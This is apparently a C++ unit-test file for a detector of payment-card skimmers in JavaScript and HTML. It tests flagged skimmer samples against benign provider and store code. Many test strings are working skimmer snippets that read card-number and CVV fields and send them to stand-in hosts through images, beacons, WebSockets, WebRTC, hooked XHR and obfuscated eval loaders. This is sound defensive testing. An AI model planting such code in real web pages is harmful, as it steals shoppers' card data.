// Behaviour analysis of JavaScript and HTML (behaviour_js.cc): card fields read and sent away,
// obfuscated builders of the same, a form's action rewritten, a foreign script host added to a
// page; the same APIs used as every shop uses them are not a trait.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

#include "webroot/code_lexer.h"
#include "webroot/normalize.h"

namespace tq::webroot {
namespace {

std::vector<CodeTrait> Js(std::string_view src) {
  LexResult r = LexJs(src, LexLimits());
  std::vector<CodeTrait> out;
  AnalyzeJs(r.tokens, "js", false, out);
  return out;
}

std::string Base64(std::string_view in) {
  static const char* a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  size_t i = 0;
  for (; i + 2 < in.size(); i += 3) {
    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
    for (int k = 3; k >= 0; --k) out += a[(v >> (6 * k)) & 63];
  }
  if (in.size() - i == 1) {
    uint32_t v = uint8_t(in[i]) << 16;
    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += "==";
  } else if (in.size() - i == 2) {
    uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8);
    out += a[(v >> 18) & 63], out += a[(v >> 12) & 63], out += a[(v >> 6) & 63], out += '=';
  }
  return out;
}

int Strongest(const std::vector<CodeTrait>& t, std::string_view family = "") {
  int s = 0;
  for (const CodeTrait& c : t)
    if (family.empty() || c.family == family) s = std::max(s, c.strength);
  return s;
}

// Card data leaving as the address of an element the code creates (a prefetch link, a script,
// a hidden frame), or over a WebRTC data channel.
TEST(BehaviourJs, CardDataInAnElementsAddressOrAWebRtcChannel) {
  EXPECT_GE(Strongest(Js("document.addEventListener('submit', function () {"
                         " var n = document.querySelector('[name*=cc_number]').value;"
                         " var l = document.createElement('link'); l.rel = 'prefetch';"
                         " l.href = 'https://fonts-cdn.example.top/f.css?v=' + btoa(n);"
                         " document.head.appendChild(l); }, true);"),
                      "exfil"),
            3);
  EXPECT_GE(Strongest(Js("jQuery('#co-payment-form').on('submit', function () {"
                         " var s = document.createElement('script');"
                         " s.src = '//metrics.example.top/c.js?d=' + "
                         "encodeURIComponent(jQuery(this).serialize());"
                         " document.body.appendChild(s); });"),
                      "exfil"),
            3);
  EXPECT_GE(Strongest(Js("setInterval(function () { var c = document.querySelector("
                         "'[name=\"payment[cc_number]\"]'); if (!c) return;"
                         " var pc = new RTCPeerConnection({iceServers: [{urls: "
                         "'stun:stun.example.top:3478'}]}); var ch = pc.createDataChannel('d');"
                         " ch.onopen = function () { ch.send(c.value); }; }, 1000);"),
                      "exfil"),
            3);
  // A loader adding the payment provider's script beside the card form, a video call with no
  // card field, a script element for a CDN library: no exfiltration.
  EXPECT_EQ(Strongest(Js("var n = document.getElementById('card_number');"
                         " var s = document.createElement('script');"
                         " s.src = 'https://js.stripe.com/v3/'; document.head.appendChild(s);"),
                      "exfil"),
            0);
  EXPECT_EQ(Strongest(Js("var pc = new RTCPeerConnection(cfg); var ch = pc.createDataChannel("
                         "'chat'); ch.send(document.getElementById('message').value);"),
                      "exfil"),
            0);
  EXPECT_EQ(Strongest(Js("var s = document.createElement('script');"
                         " s.src = 'https://cdn.example.net/lib.js?v=' + version;"
                         " document.head.appendChild(s);"),
                      "exfil"),
            0);
}

// Card data carried off by navigation (location, window.open) or posted into a frame the
// code created; a redirect to a payment provider, a share button, a chat widget: no.
TEST(BehaviourJs, CardDataInANavigationOrAFramesMessages) {
  EXPECT_GE(Strongest(Js("document.querySelector('#place-order').onclick = function () {"
                         " var c = document.getElementById('cc_number').value;"
                         " location.href = 'https://track.example.top/r?u=' + btoa(c); };"),
                      "exfil"),
            3);
  EXPECT_GE(Strongest(Js("jQuery(document).on('submit', '#co-payment-form', function () {"
                         " window.open('https://survey.example.top/t?d=' + "
                         "btoa(jQuery(this).serialize()), '_blank'); });"),
                      "exfil"),
            3);
  EXPECT_GE(Strongest(Js("var fr = document.createElement('iframe'); fr.src = "
                         "'https://widget.example.top/f.html'; document.body.appendChild(fr);"
                         " document.addEventListener('change', function (e) {"
                         " if (/cc_|cvv/.test(e.target.name)) fr.contentWindow.postMessage("
                         "e.target.value, '*'); });"),
                      "exfil"),
            3);
  EXPECT_EQ(Strongest(Js("var card = document.getElementById('cc_number');"
                         " location.href = 'https://www.paypal.com/checkoutnow?token=' + "
                         "encodeURIComponent(token.value);"),
                      "exfil"),
            0);
  EXPECT_EQ(Strongest(Js("window.open('https://share.example.net/intent?text=' + "
                         "encodeURIComponent(document.title), '_blank');"),
                      "exfil"),
            0);
  EXPECT_EQ(Strongest(Js("var fr = document.createElement('iframe'); fr.src = "
                         "'https://chat.example.net/w.html'; fr.contentWindow.postMessage("
                         "{page: location.pathname}, 'https://chat.example.net');"),
                      "exfil"),
            0);
}

TEST(BehaviourJs, CardFieldsSentAwayIsAnExfilTrait) {
  auto t =
      Js("document.querySelector('#cc_number').addEventListener('change',function(){"
         "var d=document.getElementById('cc_number').value+document.getElementById("
         "'cc_cvv').value;new Image().src='https://stats.example.top/c?d='+btoa(d);});");
  EXPECT_GE(Strongest(t, "exfil"), 3);
  // The image under window (window['Image'] folded).
  EXPECT_GE(Strongest(Js("document.querySelector('#cc_number').addEventListener('change',"
                         "function(){var d=document.getElementById('cc_number').value;var i=new "
                         "window.Image();i.src='https://stats.example.top/c?d='+btoa(d);});"),
                      "exfil"),
            3);
  EXPECT_EQ(Strongest(Js("var total = price * qty; document.getElementById('sum').innerText ="
                         " total.toFixed(2);"),
                      "exfil"),
            0);
}

// Every form's fields read when a form is sent, base64'd and posted to a host no provider owns
// (a minifier's output: window and document under one-letter names); the same harvest sent in
// clear, or base64'd to the store's own path, is what form tools do.
TEST(BehaviourJs, EveryFormOnSubmitBase64dToAnUnknownHost) {
  const char* harvest =
      "var t=window,e=t.document;e.addEventListener(\"submit\",function(){var "
      "n=e.querySelectorAll(\"input,select\");if(n){for(var a={},i=0;i<n.length;i++)a[n[i].name]"
      "=n[i].value;t.fetch(\"https://cdn-analytics-js.example/c\",{method:\"POST\",body:%s})}}"
      ",!0);";
  auto with = [&](const char* body) {
    char buf[1024];
    std::snprintf(buf, sizeof buf, harvest, body);
    return Strongest(Js(buf), "exfil");
  };
  EXPECT_GE(with("t.btoa(JSON.stringify(a))"), 3);
  EXPECT_LT(with("JSON.stringify(a)"), 3);
  EXPECT_GE(Strongest(Js("document.forms[0].onsubmit=function(){var f=document.querySelectorAll("
                         "'input');var d={};for(var i=0;i<f.length;i++)d[f[i].name]=f[i].value;"
                         "navigator.sendBeacon('https://img.example.top/p',btoa(JSON.stringify(d)))"
                         "}"),
                      "exfil"),
            3);
  // The store's own endpoint: no unknown host.
  EXPECT_LT(Strongest(Js("document.addEventListener('submit',function(){var f=document."
                         "querySelectorAll('input');var d={};for(var i=0;i<f.length;i++)d[f[i]."
                         "name]=f[i].value;fetch('/newsletter/subscribe',{method:'POST',body:btoa("
                         "JSON.stringify(d))})});"),
                      "exfil"),
            3);
  // Read on a click, not when a form is sent: not this trait.
  EXPECT_LT(
      Strongest(Js("document.addEventListener('click',function(){var f=document."
                   "querySelectorAll('input');var d={};for(var i=0;i<f.length;i++)d[f[i]."
                   "name]=f[i].value;fetch('https://a.example.top/c',{method:'POST',body:btoa("
                   "JSON.stringify(d))})});"),
                "exfil"),
      3);
}

TEST(BehaviourJs, ForeignScriptHostsInHtml) {
  std::vector<CodeTrait> out;
  AnalyzeHtml("<html><head><script src=\"https://cdn.evil.example/s.js\"></script></head></html>",
              "html", out);
  EXPECT_FALSE(out.empty());
  std::vector<CodeTrait> none;
  AnalyzeHtml("<p>no scripts here</p>", "html", none);
  EXPECT_TRUE(none.empty());
}

int JsPipeline(std::string_view src, std::string_view family = "") {
  return Strongest(Normalize(src, CodeKind::kJs).traits, family);
}

TEST(BehaviourJs, ObfuscatorStringArrayWithRotation) {
  // obfuscator.io's shape: a string table rotated at start-up and read through a lookup
  // function; the names in the table still say what the code does.
  EXPECT_GE(
      JsPipeline("var _0x4a1f=['getElementById','cc_number','value','Image','src',"
                 "'https://px.example.top/i.gif?d=','btoa'];(function(_0x2d8f05,_0x4b81bb){var "
                 "_0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05["
                 "'shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4a1f,0x1b3));var _0x2e3c=function("
                 "_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x4a1f[_0x2d8f05];"
                 "return _0x4d74cb;};var _0x1=document[_0x2e3c('0x0')](_0x2e3c('0x1'))[_0x2e3c("
                 "'0x2')];var _0x2=new window[_0x2e3c('0x3')]();_0x2[_0x2e3c('0x4')]=_0x2e3c("
                 "'0x5')+window[_0x2e3c('0x6')](_0x1);",
                 "exfil"),
      4);
}

TEST(BehaviourJs, AtobEvalAndFromCharCodeBuilders) {
  std::string inner =
      "document.querySelector('#payment').addEventListener('submit',function(){var d=new "
      "FormData(this);d.append('c',document.getElementById('cc_number').value);navigator."
      "sendBeacon('https://sync.example.com/c',d);});";
  EXPECT_GE(JsPipeline("this['eval'](this['atob']('" + Base64(inner) + "'));", "exfil"), 4);
  EXPECT_GE(JsPipeline("var u=String.fromCharCode(104,116,116,112,115,58,47,47,120,46,101,120,"
                       "97,109,112,108,101,47,103);function send(){var f=document."
                       "querySelectorAll('input, select');var s='';for(var i=0;i<f.length;i++)"
                       "{s+=f[i].name+'='+f[i].value+'&';}fetch(u,{method:'POST',body:btoa(s)});}"
                       "if(location.href.indexOf('checkout')>-1){document.addEventListener("
                       "'change',send);}",
                       "exfil"),
            3);
}

TEST(BehaviourJs, FakeFormsActionRewriteAndLocalStorageStaging) {
  EXPECT_GE(JsPipeline("if (location.pathname.indexOf('onestepcheckout') !== -1) {"
                       " document.querySelector('#pm').insertAdjacentHTML('beforeend', '<input "
                       "id=\"cn\" name=\"cardnumber\"><input name=\"cvc\">');"
                       " var ws = new WebSocket('wss://m.example.net/ws'); ws.onopen = function"
                       " () { ws.send(document.getElementById('cn').value); }; }",
                       "exfil"),
            4);
  EXPECT_GE(JsPipeline("jQuery(function($){ if (/checkout/.test(location.pathname)) {"
                       " $('form#co-payment-form').attr('action',"
                       " 'https://pay.example.xyz/collect.php'); } });",
                       "exfil"),
            3);
  EXPECT_GE(JsPipeline("document.addEventListener('input', function (e) { if (/cc_|cvv/i.test("
                       "e.target.name)) { localStorage.setItem('_s', e.target.value); } });"
                       " window.addEventListener('beforeunload', function () { var x = new "
                       "XMLHttpRequest(); x.open('POST', 'https://c.example.org/p');"
                       " x.send(localStorage.getItem('_s')); });",
                       "exfil"),
            3);
  // A search form pointed at the store's own path, and a card-number formatter with no
  // channel out, are not exfiltration.
  EXPECT_LT(
      JsPipeline("document.getElementById('search').action = '/catalogsearch/result/';", "exfil"),
      2);
  EXPECT_EQ(JsPipeline("var cc = document.getElementById('cc_number'); cc.addEventListener("
                       "'input', function () { cc.value = cc.value.replace(/\\D/g, '')"
                       ".replace(/(.{4})/g, '$1 ').trim(); });",
                       "exfil"),
            0);
}

std::vector<CodeTrait> Html(std::string_view src) {
  std::vector<CodeTrait> out;
  AnalyzeHtml(src, "html", out);
  return out;
}

TEST(BehaviourJs, JqueryRequestsAreAChannel) {
  // The whole checkout form serialised and posted with jQuery to a host no provider owns.
  EXPECT_GE(Strongest(Js("jQuery(document).on('click','#payment-button, .checkout',function(){"
                         "var d=jQuery('form').serialize();jQuery.ajax({url:'https://"
                         "metrics.example.top/g',type:'POST',data:{i:btoa(d)}})});"),
                      "exfil"),
            3);
  EXPECT_GE(Strongest(Js("$('#co-payment-form').submit(function(){$.post('//x.example.top/c',"
                         "{n:$('#cc_number').val()})});"),
                      "exfil"),
            3);
  // The store's own checkout posting its form to a relative URL, or to a payment provider.
  EXPECT_EQ(Strongest(Js("$('#checkout').on('submit',function(){$.ajax({url:'/checkout/save',"
                         "type:'POST',data:$(this).serialize()})});"),
                      "exfil"),
            0);
  EXPECT_EQ(Strongest(Js("$('.checkout-button').click(function(){$.ajax({url:"
                         "'https://www.paypal.com/v2/checkout',data:$('form').serialize()})});"),
                      "exfil"),
            0);
}

TEST(BehaviourJs, ACardFormPostingToAnotherHostIsExfil) {
  auto t = Html(
      "<div><form method=post action=\"https://pay-secure.example.top/p\"><input name=\"cardnumber"
      "\"><input name=\"cvc\"><button>Pay</button></form></div>");
  ASSERT_EQ(t.size(), 1u);
  EXPECT_EQ(t[0].id, "html.card_form_offsite");
  EXPECT_EQ(t[0].strength, 3);
  EXPECT_EQ(t[0].target_host, "pay-secure.example.top");
  // A search form to another host, and a card form posting to a relative URL: no trait.
  EXPECT_TRUE(Html("<form action=\"https://www.google.com/search\"><input name=q></form>").empty());
  EXPECT_TRUE(Html("<form action=\"/checkout/pay\"><input name=\"cc_number\"></form>").empty());
  // One form to the store, one to another host: both hosts are judged.
  auto two = Html(
      "<form action=\"https://shop.example.com/p\"><input name=cc_number></form>"
      "<form action='https://x.example.top/p'><input name=cc_cid></form>");
  ASSERT_EQ(two.size(), 2u);
  EXPECT_EQ(two[1].target_host, "x.example.top");
}

TEST(BehaviourJs, AScriptTagWrittenAsMarkupIsAScriptLoad) {
  auto t =
      Js("if(/checkout/.test(window.location)){document.write('<script src=\"https://"
         "cdn-js.example.top/j.js\"></scr'+'ipt>');}");
  ASSERT_EQ(t.size(), 1u);
  EXPECT_EQ(t[0].id, "js.script_injection");
  EXPECT_EQ(t[0].strength, 2);  // gated on checkout, from a host no provider owns
  EXPECT_EQ(t[0].host, "cdn-js.example.top");
  // The same from a payment provider, or without the gate: weak.
  EXPECT_EQ(Strongest(Js("if(/checkout/.test(location)){document.write('<script src=\"https://"
                         "js.stripe.com/v3/\"></scr'+'ipt>')}")),
            1);
  EXPECT_EQ(Strongest(Js("document.write('<script src=\"https://cdn-js.example.top/j.js\">"
                         "</scr'+'ipt>');")),
            1);
  // Markup without a source host is no load.
  EXPECT_TRUE(Js("el.innerHTML = '<script>var a = 1;</scr' + 'ipt>';").empty());
}

TEST(BehaviourJs, FormsReadAndSentToAHiddenOrUnknownHost) {
  auto exfil = [](std::string_view src) {
    for (const CodeTrait& c : Js(src))
      if (c.id == "js.card_exfil") return true;
    return false;
  };
  // The payment step's form, whatever its fields are called, over a WebSocket.
  EXPECT_TRUE(
      exfil("var s = new WebSocket('wss://stats.example:8443/ws');"
            "document.querySelector('#payment-form').addEventListener('change',"
            "function(e){ s.send(e.target.name + '=' + e.target.value); });"));
  // Every input, to a URL the code spells in character codes (folded by Normalize).
  auto n = Normalize(
      "var u = String.fromCharCode(104,116,116,112,115,58,47,47,99,46,101,120,97,109,112,108,"
      "101,47,99);var f = document.querySelectorAll('input');var d='';"
      "for (var i = 0; i < f.length; i++) d += f[i].value;navigator.sendBeacon(u, d);",
      CodeKind::kJs);
  bool folded = false;
  for (const CodeTrait& c : n.traits) folded |= c.id == "js.card_exfil";
  EXPECT_TRUE(folded);
  // jQuery: the inputs of a form on the checkout button's click, sent as a script's query.
  EXPECT_TRUE(
      exfil("jQuery(document).on('click', '.action.checkout', function () {"
            "var o = []; jQuery('form input, form select').each(function () {"
            "o.push(jQuery(this).val()); });"
            "jQuery.getScript('https://stat.example/s.js?d=' + btoa(o.join('|'))); });"));
  // The checkout's own requests copied by a hooked XMLHttpRequest.
  EXPECT_TRUE(exfil(
      "XMLHttpRequest.prototype._s = XMLHttpRequest.prototype.send;"
      "XMLHttpRequest.prototype.send = function (b) {"
      "if (/checkout|payment/.test(location.href)) new Image().src ="
      " 'https://img.example/p.gif?d=' + btoa(b); return this._s.apply(this, arguments); };"));
  // An error monitor wrapping fetch and reporting to a known provider is not it.
  EXPECT_FALSE(
      exfil("var f = window.fetch; window.fetch = function () { return f.apply(this,"
            " arguments).catch(function (e) { navigator.sendBeacon("
            "'https://o1.ingest.sentry.io/api/1/store/', String(e)); }); };"
            "if (location.pathname.indexOf('checkout') >= 0) init();"));
  // The store's checkout bundle: its payment form, its own JSON calls, an SVG namespace.
  EXPECT_FALSE(
      exfil("var ns = 'http://www.w3.org/2000/svg', api = 'https://cdn.shop.example/x';"
            "var f = document.querySelector('#co-payment-form');"
            "var x = new XMLHttpRequest(); x.open('POST', '/rest/V1/carts/mine');"
            "x.send(JSON.stringify({method: f.elements.method.value}));"));
  // The store's own payment form posted to its own endpoint, or to a known provider.
  EXPECT_FALSE(
      exfil("$('#payment-form').on('submit', function(){ $.post('/checkout/pay', "
            "$(this).serialize()); });"));
  EXPECT_FALSE(
      exfil("var f = document.querySelector('#payment-form');"
            "fetch('https://api.stripe.com/v1/tokens', {method: 'POST', body: "
            "new FormData(f)});"));
  // A contact form's inputs sent to a URL written in plain text is not hidden.
  EXPECT_FALSE(
      exfil("var f = document.querySelectorAll('input');"
            "navigator.sendBeacon('https://forms.example/c', f[0].value);"));
}

TEST(BehaviourJs, CodeRunFromAFetchedImage) {
  auto has = [](const std::vector<CodeTrait>& out) {
    for (const CodeTrait& c : out)
      if (c.id == "js.image_code_loader") return true;
    return false;
  };
  EXPECT_TRUE(
      has(Js("fetch('/media/favicon.ico').then(function(r){return r.text();})"
             ".then(function(t){new Function(t.slice(t.indexOf('//')))();});")));
  EXPECT_TRUE(
      has(Js("var x = new XMLHttpRequest(); x.open('GET', 'logo.png?v=3');"
             "x.onload = function(){ eval(x.responseText.substr(900)); }; x.send();")));
  // An icon sprite inserted as markup, beside a module loader's Function: no flow between.
  EXPECT_FALSE(
      has(Js("fetch('/icons/sprite.svg').then(function(r){return r.text();})"
             ".then(function(t){el.innerHTML = t;});"
             "define('l', [], function(){ return new Function('m', src); });")));
  // A script fetched and run is a loader's business, not an image.
  EXPECT_FALSE(has(Js("fetch('/js/app.js').then(function(r){return r.text();}).then(eval);")));
}

bool Has(const std::vector<CodeTrait>& out, std::string_view id, int strength = 3) {
  for (const CodeTrait& c : out)
    if (c.id == id && c.strength >= strength) return true;
  return false;
}

TEST(BehaviourJs, StylesheetsAndFontsFetchedAndRunAreImageLoaders) {
  auto has = [](const std::vector<CodeTrait>& out) { return Has(out, "js.image_code_loader", 1); };
  EXPECT_TRUE(
      has(Js("fetch('/static/css/styles-l.css').then(function(r){return r.text();})"
             ".then(function(c){eval(atob(c.split('/*!').pop().split('*/')[0]));});")));
  // A stylesheet fetched and put into a <style> element is a theme switcher.
  EXPECT_FALSE(
      has(Js("fetch('/static/css/dark.css').then(function(r){return r.text();})"
             ".then(function(c){document.getElementById('theme').textContent = c;});")));
}

TEST(BehaviourJs, NamesWrittenAsHexEscapesAreHidden) {
  // Letters written as \x escapes: the names and the host are hidden, so every field read on
  // submit and sent there is a harvest.
  auto hidden = Normalize(
      "var w=window,d=w['\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74'];d.addEventListener('submit',"
      "function(){var "
      "n=d['\\x71\\x75\\x65\\x72\\x79\\x53\\x65\\x6c\\x65\\x63\\x74\\x6f\\x72\\x41\\x6c\\x6c']"
      "('input,select');var v='';for(var i=0;i<n.length;i++)v+=n[i].value;w['fetch']("
      "'\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x63\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f"
      "\\x63',"
      "{method:'POST',body:v});},true);",
      CodeKind::kJs);
  EXPECT_TRUE(Has(hidden.traits, "js.card_exfil"));
  // The same harvest with the URL in plain text, and escapes that stand for what cannot be
  // typed (accents, a '<' kept out of a script tag), hide nothing.
  auto plain = Normalize(
      "var msg='Pr\\u00e9nom \\x3cb\\x3e';document.addEventListener('submit',function(){"
      "var n=document.querySelectorAll('input');var v='';for(var i=0;i<n.length;i++)"
      "v+=n[i].value;fetch('https://c.example/c',{method:'POST',body:v});},true);",
      CodeKind::kJs);
  EXPECT_FALSE(Has(plain.traits, "js.card_exfil"));
}

TEST(BehaviourJs, PrototypeAjaxIsAChannel) {
  // Magento 1: card fields sent with new Ajax.Updater to another host.
  EXPECT_TRUE(Has(Js("$$('input[name^=\"payment[cc_\"]').each(function(el){el.observe('blur',"
                     "function(){new Ajax.Updater('box','//lib.example/u',{parameters:"
                     "{v:escape(el.value)}});});});"),
                  "js.card_exfil"));
  // The payment form serialised, base64-encoded and posted with Ajax.Request elsewhere.
  EXPECT_TRUE(Has(Js("Event.observe($('payment-buttons-container'),'click',function(){"
                     "var p=$('co-payment-form').serialize(true);new Ajax.Request("
                     "'https://track.example/t',{parameters:{p:btoa(Object.toJSON(p))}});});"),
                  "js.card_exfil"));
  // Magento 1's own payment step saving to the store's checkout URL.
  EXPECT_FALSE(Has(Js("new Ajax.Request(this.saveUrl,{method:'post',parameters:"
                      "Form.serialize(this.form)});var payment=new Payment('co-payment-form',"
                      "'https://shop.example.com/checkout/onepage/savePayment/');"),
                   "js.card_exfil", 1));
}

TEST(BehaviourJs, CardFieldPrefixesAreCardFields) {
  EXPECT_TRUE(Has(Js("document.addEventListener('change',function(e){if(e.target.name."
                     "indexOf('cc_')>-1){new Image().src='https://i.example/p.gif?'+"
                     "e.target.name+'='+e.target.value;}});"),
                  "js.card_exfil"));
  // The prefix alone, styling card fields, sends nothing.
  EXPECT_TRUE(Js("document.querySelectorAll('input').forEach(function(i){if(i.name.indexOf("
                 "'cc_')===0)i.classList.add('card');});")
                  .empty());
}

TEST(BehaviourJs, AnIframeFromAnotherHostInThePaymentStep) {
  EXPECT_TRUE(Has(Js("if(/checkout/.test(location.pathname)){var f=document.createElement("
                     "'iframe');f.src='https://pay-frame.example/f.html';document."
                     "getElementById('payment_form_x').appendChild(f);}"),
                  "js.fake_payment_frame"));
  // A provider's hosted fields frame its own host; a video embed is not in the payment step.
  EXPECT_FALSE(Has(Js("var f=document.createElement('iframe');f.src='https://assets."
                      "braintreegateway.com/hosted-fields/frame.html';document.querySelector("
                      "'#payment-form').appendChild(f);"),
                   "js.fake_payment_frame", 1));
  EXPECT_FALSE(Has(Js("var f=document.createElement('iframe');f.src='https://video.example/"
                      "e/1';document.getElementById('product-video').appendChild(f);"),
                   "js.fake_payment_frame", 1));
}

TEST(BehaviourJs, LoadersFromHostsDressedAsProviders) {
  const char* ga =
      "(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;a=s.createElement(o),m=s."
      "getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,"
      "document,'script','%s','ga');";
  char buf[512];
  snprintf(buf, sizeof buf, ga, "https://www.google-analytics.com.stats.example/analytics.js");
  EXPECT_TRUE(Has(Js(buf), "js.script_injection"));
  snprintf(buf, sizeof buf, ga, "https://www.google-analytics.com/analytics.js");
  EXPECT_FALSE(Has(Js(buf), "js.script_injection"));
  std::vector<CodeTrait> html;
  AnalyzeHtml("<script src=\"https://cdn-jquery.example/jquery.min.js\"></script>", "html", html);
  EXPECT_TRUE(Has(html, "html.external_script"));
  html.clear();
  AnalyzeHtml(
      "<script src=\"https://code.jquery.com/jquery.min.js\"></script>"
      "<script src=\"https://cdn.shop.example/app.js\"></script>",
      "html", html);
  EXPECT_FALSE(Has(html, "html.external_script", 2));
}

TEST(BehaviourJs, APaymentSdkNamesCardFieldsFarFromItsRequests) {
  // Card fields named in form code and a request to a provider's regional host far away in a
  // large bundle: the SDK's transport, not a skimmer. The same pieces in one function are.
  std::string filler;
  for (int i = 0; i < 900; ++i) filler += "a" + std::to_string(i) + "=b+c;";
  std::string form =
      "var fields={number:'cardnumber',code:'cvc'};document.querySelector('#checkout');";
  std::string send =
      "var x=new XMLHttpRequest();x.open('POST','https://payments.region.example/v1');";
  EXPECT_FALSE(Has(Js(form + filler + send), "js.card_exfil", 1));
  EXPECT_TRUE(Has(Js(filler + form + send + filler), "js.card_exfil"));
}

TEST(BehaviourJs, CodeFromAWebSocketPutIntoAScriptElement) {
  EXPECT_TRUE(Has(Js("var ws=new WebSocket('wss://w.example/ws');ws.onmessage=function(m){"
                     "var s=document.createElement('script');s.textContent=m.data;"
                     "document.body.appendChild(s);};"),
                  "js.remote_code"));
  // A chat widget: its socket carries messages, its script element loads its own library.
  EXPECT_FALSE(Has(Js("var ws=new WebSocket('wss://chat.example/ws');ws.onmessage=function(m){"
                      "box.textContent=m.data;};var s=document.createElement('script');"
                      "s.src='https://chat.example/widget.js';document.head.appendChild(s);"),
                   "js.remote_code", 1));
}

TEST(BehaviourJs, ConstructorOfConstructorRunsCharacterCodesPassedAsAnArray) {
  std::string code = "var s=document.createElement('script');s.src='https://lib.example/x.js';";
  std::string codes;
  for (char c : code) codes += (codes.empty() ? "" : ",") + std::to_string(int(c));
  NormalizedCode n = Normalize(
      "[]['constructor']['constructor'](String.fromCharCode.apply(null,[" + codes + "]))();",
      CodeKind::kJs);
  EXPECT_TRUE(Has(n.traits, "js.script_injection"));
  // A UTF-16 decoder applying fromCharCode to a buffer it was given: nothing to fold.
  NormalizedCode d = Normalize(
      "function decode(buf){return String.fromCharCode.apply(null,new Uint16Array(buf));}",
      CodeKind::kJs);
  EXPECT_TRUE(d.traits.empty());
  EXPECT_EQ(d.layers.size(), 1u);
}

TEST(BehaviourJs, ATableOfRandomCharactersNamesNoCardField) {
  // An obfuscator's string table that holds "CVV" by chance, beside a chat sent over WebRTC: no
  // card field; the same channel with a selector naming the field is one.
  std::string table =
      "um\"cmDr=CVV.2EveaLQQM|VYll^Pr^Dcouwgo}!x_]JY}Jl]M{+}&oON5V2Xz)xo4,hT%?s>!G_~J!]s@OrkJH"
      "gRXotsKM0*41xbPz;Nv|rAvpd!#|cC|N]VV4)<G@nPV>m!^1@W(N/20nw`8F|1h1OEy[TiO~$}79pL!3/z^c0";
  std::string chat =
      "var pc=new RTCPeerConnection(c);var ch=pc.createDataChannel('chat');"
      "document.getElementById('send').addEventListener('click',function(){"
      "ch.send(document.getElementById(X).value)});";
  std::string quoted;
  for (char c : table) {
    if (c == '\\' || c == '\'') quoted += '\\';
    quoted += c;
  }
  std::vector<CodeTrait> out = Js("var T='" + quoted + "';var X='msg';" + chat);
  EXPECT_FALSE(Has(out, "js.card_exfil")) << out.size();
  EXPECT_TRUE(Has(Js("var T='" + quoted + "';var X='cc_cvv';" + chat), "js.card_exfil"));
}

}  // namespace
}  // namespace tq::webroot
